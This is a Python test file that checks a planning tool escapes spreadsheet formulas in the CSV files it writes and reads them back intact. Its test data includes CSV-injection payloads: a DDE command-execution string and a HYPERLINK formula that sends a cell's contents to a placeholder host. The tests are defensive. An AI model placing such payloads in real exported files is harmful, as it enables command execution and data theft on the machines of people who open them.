"""Cells that a spreadsheet would take for formulas: in no CSV that is written, and each comes back as it was."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from planner.check_campaign.build import build_campaign
from planner.domain.campaign import Campaign
from planner.domain.rows import Line, Rows, TableRows
from planner.files.formulas import bared_text, guarded, guarded_text
from planner.files.plans import from_plan_texts, read_plan, to_plan_texts, write_plan
from planner.files.read import read_rows
from planner.files.write import convert
from planner.pipeline.read import read_checked_plan
from tests.pipeline.idle import idle_run
from tests.tiny import write_tiny

FORMULAS = ["=1+1", "+cmd|' /C calc'!A0", "-a", "@SUM(A1)", '=HYPERLINK("http://x/"&A1,"voir")', "'=1", "'+212 6"]


@pytest.fixture
def campaign(tmp_path: Path) -> Campaign:
    campaign, _ = build_campaign(read_rows(write_tiny(tmp_path / "tiny")))
    assert campaign is not None
    return campaign


def cells_of(path: Path) -> list[str]:
    """Return every cell of a folder's CSVs, as a spreadsheet has them."""
    texts = (each.read_text("utf-8") for each in path.rglob("*.csv"))
    return [cell for text in texts for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


@given(st.text(alphabet="'=+-@12.e x", max_size=8))
def test_guarding_a_cell_can_be_undone(text: str) -> None:
    assert bared_text(guarded_text(text)) == text


def test_numbers_stay_numbers() -> None:
    assert guarded_text("-6.43") == "-6.43"
    assert bared_text("'-6.43") == "'-6.43"


def test_a_header_with_a_semicolon_is_guarded_and_stays_one(tmp_path: Path) -> None:
    table = TableRows("notes", "notes.csv", ("a;b", "=c"), (Line(2, {"a;b": "1\n2", "=c": "=3"}),))
    convert(Rows(None, {"notes": table}), tmp_path / "out")
    assert cells_of(tmp_path / "out") == ["a;b", "'=c", "1\n2", "'=3"]
    assert read_rows(tmp_path / "out").tables["notes"] == table


def test_what_is_no_csv_is_left_alone() -> None:
    assert guarded({"campaign.toml": "=1", "a.csv": "=1\n"}) == {"campaign.toml": "=1", "a.csv": "'=1\n"}


@pytest.mark.parametrize("name", FORMULAS)
def test_no_cell_of_a_plans_folder_is_a_formula_and_verify_reads_what_was_meant(
    campaign: Campaign, name: str, tmp_path: Path
) -> None:
    rows = read_rows(tmp_path / "tiny")
    lines = tuple(replace(line, cells={**line.cells, "name": name}) for line in rows.tables["staff"].lines)
    staff = replace(rows.tables["staff"], lines=lines)
    named, faults = build_campaign(replace(rows, tables={**rows.tables, "staff": staff}))
    assert named is not None and not faults
    run = idle_run(named)
    write_plan(run, named, tmp_path / "plan")
    assert f"'{name}" in cells_of(tmp_path / "plan")
    assert name not in cells_of(tmp_path / "plan")
    assert read_checked_plan(tmp_path / "plan") == (named, run)


def test_a_plans_own_tables_are_guarded_too_and_kept_as_they_are_in_the_store(
    campaign: Campaign, tmp_path: Path
) -> None:
    run = idle_run(campaign)
    unserved = tuple(replace(row, code=f"'={row.code}") for row in run.plan.unserved)
    run = replace(run, plan=replace(run.plan, unserved=unserved))
    assert unserved
    assert from_plan_texts(to_plan_texts(run)) == run
    write_plan(run, campaign, tmp_path / "plan")
    assert f"''={unserved[0].code[2:]}" in cells_of(tmp_path / "plan")
    assert read_plan(tmp_path / "plan") == run
